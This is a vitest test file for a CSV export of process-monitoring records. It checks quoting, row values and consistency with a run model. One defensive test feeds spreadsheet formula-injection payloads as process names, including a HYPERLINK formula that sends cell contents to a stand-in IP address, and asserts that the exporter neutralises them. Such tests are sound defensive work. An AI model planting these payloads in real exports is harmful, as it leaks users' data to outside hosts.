import { describe, expect, it } from 'vitest'
import { csv, CSV_HEADER } from '../../../../src/engine/export/csv'
import { RunModel } from '../../../../src/shared/run/model'
import type { RunRecord } from '../../../../src/shared/run/records'
import { randomRun } from '../../../support/random-run'
import { recordedForm } from '../../../support/recorded-form'
import { born, meta, RUN_START, tick } from '../../../support/records'

const text = (records: readonly RunRecord[]) => [...csv({ records, series: () => [] })].join('')

/** RFC 4180, read by the letter. */
function cells(document: string): string[][] {
  const rows: string[][] = [[]]
  for (const [, quoted, bare, end] of document.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n|$)/g)) {
    rows.at(-1)!.push(quoted?.replaceAll('""', '"') ?? bare)
    if (end === '\r\n') rows.push([])
    else if (end === '') break
  }
  // The last line ends like every other: there is no row behind it.
  expect(rows.pop()).toEqual([''])
  return rows
}

function table(records: readonly RunRecord[]): Record<string, string>[] {
  const [head, ...rows] = cells(text(records))
  expect(head).toEqual([...CSV_HEADER])
  return rows.map((row) => {
    expect(row).toHaveLength(head.length)
    return Object.fromEntries(head.map((name, at) => [name, row[at]]))
  })
}

describe('a CSV export', () => {
  it('has a row for each process and tick, with units in its header and nothing where nothing was read', () => {
    const rows = table([
      meta(),
      born(0, 0),
      born(1, 50, { parent: 0 }),
      tick(100, { 0: { cpu: 50e6, rss: 4096, state: 82 } }),
      tick(200, { 0: { cpu: 150e6 }, 1: { rss: 8192, threads: 2 } }),
      tick(300, { 0: {}, 1: { rss: 9000 } }),
    ])
    expect(rows.map((row) => [row.process, row.run_time_s])).toEqual([
      ['0', '0.100000'],
      ['0', '0.200000'],
      ['1', '0.200000'],
      ['1', '0.300000'],
    ])
    expect(rows[0]).toMatchObject({
      wall_clock: new Date(RUN_START + 100).toISOString(),
      pid: '100',
      parent: '',
      role: '',
      name: 'p0',
      cpu_time_s: '0.05',
      cpu_share: '0.5',
      rss_bytes: '4096',
      pss_bytes: '',
      threads: '',
      state: 'R',
    })
    expect(rows[1]).toMatchObject({ cpu_share: '1', rss_bytes: '' })
    expect(rows[2]).toMatchObject({ parent: '0', cpu_share: '', cpu_time_s: '', threads: '2' })
  })

  it('keeps names whole whatever is in them', () => {
    const role = 'a "worker",\r\nsecond line'
    const records = [meta(), born(0, 0, { name: 'x,y' }), tick(100, { 0: { rss: 1 } })]
    const [row] = table([...records, { kind: 'role', t: 1, pid: 100, tid: 0, role }])
    expect([row.role, row.name]).toEqual([role, 'x,y'])
  })

  const formula = '=HYPERLINK("http://192.0.2.1/?"&A2,"open")'
  it.each([formula, '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', '\n=1+1', '＝1+1'])(
    'leaves nothing of a name for a spreadsheet to compute (%j)',
    (name) => {
      const named: RunRecord = { kind: 'role', t: 1, pid: 100, tid: 0, role: name }
      const [row] = table([meta(), born(0, 0, { name }), named, tick(100, { 0: { rss: 1, state: 61 } })])
      expect([row.role, row.name, row.state]).toEqual([`'${name}`, `'${name}`, "'="])
    },
  )

  it('leaves names that are no formula, and numbers below 0, as they are', () => {
    const [row] = table([
      meta(),
      born(0, 0, { name: 'a=b', pid: -7 }),
      tick(100, { 0: { rss: -1, state: 44 } }),
    ])
    expect([row.name, row.pid, row.rss_bytes, row.state]).toEqual(['a=b', '-7', '-1', ','])
  })

  it.each([1, 2, 3])('says of a recording what it says of the live run (%i)', (seed) => {
    const live = randomRun(seed)
    expect(text(recordedForm(live))).toBe(text(live))
  })

  it('has the shares and times that the model has', () => {
    const records = randomRun(7)
    const model = new RunModel()
    model.applyAll(records)
    const rows = table(records)
    expect(rows.length).toBeGreaterThan(500)
    for (const { process, run_time_s: seconds, cpu_share: share, rss_bytes: rss } of rows) {
      const { series } = model.processes[Number(process)]!
      const at = series.lowerBound(Number(seconds) * 1000 - 0.001)
      expect(Number(rss)).toBe(series.at('rss', at))
      if (share !== '') expect(Number(share)).toBeCloseTo(series.at('cpu', at), 5)
    }
  })
})
